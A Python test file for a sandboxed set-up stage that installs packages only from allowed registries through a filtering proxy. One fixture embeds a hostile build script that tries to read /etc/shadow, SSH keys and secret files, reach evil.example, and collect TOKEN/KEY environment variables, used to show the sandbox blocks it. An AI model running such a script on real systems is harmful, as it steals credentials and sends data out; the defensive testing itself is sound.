"""The set-up stage: packages from registries and nothing else, in a sandbox; what it makes is shown to tests read-only."""

import json
import socket
import ssl
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from bot.adapters.sandbox import find_sandbox
from bot.adapters.setup import CannotSetUp, SetUp, base_python, lay, registries, way_through
from bot.adapters.setup.door import Door, Passed
from bot.adapters.setup.made import keep_made
from bot.adapters.suite import PytestSuite
from bot.domain.errors import Later
from bot.ports import Limits
from bot.registries import gate_of
from bot.settings import load_settings
from tests.contracts.test_suite import Repository
from tests.world.registry import Registry, pack
from tests.world.tunnel import Tunnel

# where pip asks when it is not told otherwise
HOST = min(host for host in registries() if host.startswith("pypi"))
NEEDED = ["pytest", "pluggy", "iniconfig", "packaging", "pygments"]


@pytest.fixture
def company(tmp_path: Path) -> Iterator[Tunnel]:
    """Serve a registry behind a company's proxy, by its public name."""
    with Registry(tmp_path / "wheels", NEEDED) as registry:
        pack("shelf", {"shelf.py": "SIZE = 3\n"}, registry.folder)
        with Tunnel(HOST, registry.url, tmp_path) as tunnel:
            yield tunnel


@contextmanager
def door_of(tmp_path: Path, company: Tunnel, most: int = 10**6) -> Iterator[Door]:
    connect = way_through({"https_proxy": company.url})
    with Door(tmp_path / "door", frozenset({HOST, "gone.example"}), connect=connect, most_bytes=most) as door:
        yield door


def asked(door: Door, head: bytes) -> bytes:
    """Send a request's head to the door and return the answer's."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(20)
        client.connect(str(door.path))
        client.sendall(head + b"\r\n\r\n")
        return client.recv(1_000).split(b"\r\n")[0]


def through(door: Door, company: Tunnel, target: str, name: str | None) -> bytes:
    """Open TLS through the door, asking for a name, and get the registry's page."""
    context = ssl.create_default_context(cafile=str(company.certificates))
    if name is None:
        context.check_hostname = False
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(20)
        client.connect(str(door.path))
        client.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        assert client.recv(1_000).startswith(b"HTTP/1.1 200")
        with context.wrap_socket(client, server_hostname=name) as inside:
            inside.sendall(f"GET /simple/shelf/ HTTP/1.0\r\nHost: {target}\r\n\r\n".encode())
            page = b""
            while piece := inside.recv(10_000):
                page += piece
            return page


def test_a_registry_is_reached(tmp_path: Path, company: Tunnel) -> None:
    """TLS to a host of the list goes through, by the way that this machine itself has to go."""
    with door_of(tmp_path, company) as door:
        assert b"shelf-1.0-py3-none-any.whl" in through(door, company, f"{HOST}:443", HOST)
        assert [Passed(f"{HOST}:443", "passed")] == door.asked
    assert [f"{HOST}:443"] == company.asked


@pytest.mark.parametrize(
    ("head", "status"),
    [
        (b"CONNECT evil.example:443 HTTP/1.1", b"403 Forbidden"),
        (f"CONNECT {HOST}:80 HTTP/1.1".encode(), b"403 Forbidden"),
        (f"CONNECT {HOST}:22 HTTP/1.1".encode(), b"403 Forbidden"),
        (f"CONNECT {HOST} HTTP/1.1".encode(), b"403 Forbidden"),
        (f"CONNECT x{HOST}:443 HTTP/1.1".encode(), b"403 Forbidden"),
        (f"CONNECT x.{HOST}:443 HTTP/1.1".encode(), b"403 Forbidden"),
        (b"CONNECT 127.0.0.1:443 HTTP/1.1", b"403 Forbidden"),
        (b"CONNECT [::1]:443 HTTP/1.1", b"403 Forbidden"),
        (f"GET http://{HOST}/simple/ HTTP/1.1".encode(), b"405 Method Not Allowed"),
        (f"POST https://{HOST}/ HTTP/1.1".encode(), b"405 Method Not Allowed"),
        (b"\x16\x03\x01\x02\x00", b"405 Method Not Allowed"),
        (b"CONNECT " + b"a" * 9_000, b"400 Bad Request"),
    ],
)
def test_all_else_is_refused(tmp_path: Path, company: Tunnel, head: bytes, status: bytes) -> None:
    """Other hosts, ports, addresses and kinds of request are refused, and nobody is asked for them."""
    with door_of(tmp_path, company) as door:
        assert b"HTTP/1.1 " + status == asked(door, head)
    assert [] == company.asked


@pytest.mark.parametrize("name", ["evil.example", None])
def test_another_name_inside_tls_is_closed(tmp_path: Path, company: Tunnel, name: str | None) -> None:
    """Who asks the door for one host and TLS for another, or for none, is not connected at all."""
    with door_of(tmp_path, company) as door:
        with pytest.raises(OSError, match=r".*"):
            through(door, company, f"{HOST}:443", name)
        assert [f"closed: TLS asks for {name or 'no name'!r}"] == [seen.verdict for seen in door.asked]
    assert [] == company.asked


def test_bytes_are_counted(tmp_path: Path, company: Tunnel) -> None:
    """More than may pass in all ends the connection."""
    with door_of(tmp_path, company, most=2_000) as door:
        with pytest.raises(OSError, match=r".*"):
            for _ in range(5):
                through(door, company, f"{HOST}:443", HOST)
        assert "closed: too many bytes" in {seen.verdict for seen in door.asked}


def test_what_cannot_be_reached_is_kept(tmp_path: Path, company: Tunnel) -> None:
    """A registry that does not answer is told from one that was refused."""
    with door_of(tmp_path, company) as door:
        door.connect = lambda host, port: socket.create_connection(("127.0.0.1", 9), 1)
        with pytest.raises(OSError, match=r".*"):
            through(door, company, "gone.example:443", "gone.example")
        assert ["not reached: ConnectionRefusedError: [Errno 111] Connection refused"] == [
            seen.verdict for seen in door.asked
        ]


TEST_BOX = """
        import os, sys
        import pytest, shelf
        from pathlib import Path

        def test_size():
            assert 3 == shelf.SIZE

        def test_env_is_not_ours_to_write():
            with pytest.raises(OSError):
                Path(shelf.__file__).write_text("SIZE = 4")

        def test_network_is_gone():
            assert not Path("/door").exists()
        """


def setup_of(tmp_path: Path, company: Tunnel, **changes: object) -> SetUp:
    scratch = tmp_path / "scratch"
    scratch.mkdir(exist_ok=True)
    given = {
        "sandbox": find_sandbox(),
        "python": base_python(),
        "cache": tmp_path / "environments",
        "connect": way_through({"https_proxy": company.url}),
        "hosts": frozenset({HOST}),
        "certificates": company.certificates,
        "limits": Limits(seconds=120, memory=2 * 2**30, processes=256, file_size=2**28),
        "scratch": scratch,
    }
    return SetUp(**{**given, **changes})  # type: ignore[arg-type]


@pytest.mark.needs("bwrap")
def test_tests_run_with_what_was_set_up(tmp_path: Path, company: Tunnel) -> None:
    """A repository's needs come from the registry, once; its tests see them, and cannot change them."""
    repository, setup = Repository(tmp_path), setup_of(tmp_path, company)
    files = {"requirements.txt": "shelf\n", "test_box.py": TEST_BOX}
    tree = repository.commit(files)
    suite = PytestSuite(
        setup.sandbox, Path(sys.executable), limits=Limits(seconds=60), scratch=setup.scratch, setup=setup
    )
    report = suite.run(repository.clone, tree)
    assert report.green, report
    count = len(company.asked)
    assert count
    later = repository.commit({**files, "test_more.py": "def test(): pass"})
    assert suite.run(repository.clone, later).green
    assert count == len(company.asked)
    (kept,) = (tmp_path / "environments").glob("*/done.json")
    assert [[f"{HOST}:443", "passed"]] == json.loads(kept.read_text())["asked"]
    told = suite.command(repository.clone, tree, ["python", "-c", "import shelf; print(shelf.SIZE)"])
    assert "3\n" == told.output


BACKEND = """
    [project]
    name = "box"
    version = "1"
    [build-system]
    requires = []
    build-backend = "backend"
    backend-path = ["."]
"""
HOSTILE = """
    import os, socket, urllib.request
    from pathlib import Path

    said = []
    for place in ("/etc/shadow", "/root/.ssh", "{secret}"):
        try:
            said.append(f"read {{place}} {{Path(place).read_text()[:10]}}")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), 2)
        said.append("connected")
    except OSError:
        pass
    for url in ("https://evil.example/", "http://evil.example/"):
        try:
            urllib.request.urlopen(url, timeout=5)
            said.append("opened " + url)
        except OSError:
            pass
    said += [name for name in os.environ if "TOKEN" in name or "KEY" in name]
    raise SystemExit("said " + repr(said))
"""


@pytest.mark.slow
@pytest.mark.needs("bwrap")
def test_a_build_script_has_no_power(
    tmp_path: Path, company: Tunnel, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build script sees no file, key or host of ours; that the environment failed is said, not called red."""
    secret = tmp_path / "secret"
    secret.write_text("s3cret")
    monkeypatch.setenv("GITHUB_TOKEN", "canary")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        script = HOSTILE.format(secret=secret, port=listening.getsockname()[1])
        repository, setup = Repository(tmp_path), setup_of(tmp_path, company)
        tree = repository.commit({"pyproject.toml": BACKEND, "backend.py": script})
        with pytest.raises(CannotSetUp) as problem:
            setup.of(repository.clone, tree)
    assert "said []" in str(problem.value)
    assert "evil.example:443, which is not on the list of registries" in " ".join(str(problem.value).split())
    suite = PytestSuite(setup.sandbox, Path(sys.executable), scratch=setup.scratch, setup=setup)
    report = suite.run(repository.clone, tree)
    assert report.broken.startswith("the tests' environment could not be set up: it ended with")
    assert {} == report.tests


@pytest.mark.slow
@pytest.mark.needs("bwrap")
def test_a_registry_that_does_not_answer_is_waited_for(tmp_path: Path, company: Tunnel) -> None:
    """No verdict and nothing kept while a registry cannot be reached."""

    def nowhere(host: str, port: int) -> socket.socket:
        raise ConnectionRefusedError("nobody there")

    repository = Repository(tmp_path)
    setup = setup_of(tmp_path, company, connect=nowhere)
    tree = repository.commit({"requirements.txt": "shelf"})
    with pytest.raises(Later, match=f"{HOST}:443 could not be reached for set-up"):
        setup.of(repository.clone, tree)
    assert [] == list((tmp_path / "environments").glob("*/done.json"))


def test_a_missing_tool_is_named(tmp_path: Path, company: Tunnel) -> None:
    """A language whose tool the host has not is said with what to do."""
    repository = Repository(tmp_path)
    tree = repository.commit({"build.gradle": ""})
    with pytest.raises(
        CannotSetUp, match="the repository needs Java, and this host has no gradle under /usr"
    ):
        setup_of(tmp_path, company).of(repository.clone, tree)


@pytest.mark.needs("bwrap")
def test_what_a_change_adds_is_looked_at_before_any_of_it_is_installed(
    tmp_path: Path, company: Tunnel
) -> None:
    """What people's own base names is theirs; beyond it nothing is downloaded that no registry vouches for."""
    repository = Repository(tmp_path)
    base = repository.commit({"requirements.txt": "shelf==1.0\n", "test_a.py": "def test_a():\n    pass\n"})
    added = repository.commit({"requirements.txt": "shelf==1.0\nshelf-utils-pro==0.1\n"})
    settings = load_settings({"ASKFIRST_DATA_DIR": str(tmp_path / "data")})
    # no registry is asked here, so all that is new is unknown, and unknown is no
    gate = gate_of(settings, base, frozenset())
    assert gate is not None and gate_of(settings, "", frozenset()) is None
    assert gate(repository.clone, base) == ""
    setup = setup_of(tmp_path, company, gate=gate)
    with pytest.raises(CannotSetUp) as stopped:
        setup.of(repository.clone, added)
    assert "nothing of it is installed before a person looked at it. requirements.txt:2: " in str(
        stopped.value
    )
    assert "shelf-utils-pro" in str(stopped.value)
    assert company.asked == []


def test_a_repository_that_declares_nothing(tmp_path: Path, company: Tunnel) -> None:
    """Where nothing is declared nothing is made."""
    repository = Repository(tmp_path)
    assert None is setup_of(tmp_path, company).of(repository.clone, repository.commit({"a.py": ""}))


def test_what_set_up_left_is_kept(tmp_path: Path) -> None:
    """Generated files and named folders are kept and laid into a copy; links are neither followed nor taken along."""
    secret, copy, place, fresh = (tmp_path / name for name in ("secret", "copy", "place", "fresh"))
    secret.write_text("s3cret")
    for path, text in {
        "src/a.py": "old",
        "src/_version.py": "1",
        "node_modules/x/index.js": "x",
        "box.egg-info/PKG-INFO": "left",
        "deep/tool": "t",
        "there": "made",
    }.items():
        (copy / path).parent.mkdir(parents=True, exist_ok=True)
        (copy / path).write_text(text)
    (copy / "deep/tool").chmod(0o755)
    (copy / "stolen").symlink_to(secret)
    (copy / "folder").symlink_to(tmp_path)
    place.mkdir()
    keep_made(copy, {"src/a.py"}, place, ["node_modules"])
    assert "x" == (place / "kept/node_modules/x/index.js").read_text()
    (fresh / "src").mkdir(parents=True)
    (fresh / "there").write_text("the repository's own")
    (fresh / "deep").symlink_to(tmp_path / "place")
    lay(place / "made", fresh)
    assert {"src/_version.py": "1", "there": "the repository's own"} == {
        path.relative_to(fresh).as_posix(): path.read_text() for path in fresh.rglob("*") if path.is_file()
    }
    assert not (place / "tool").exists()
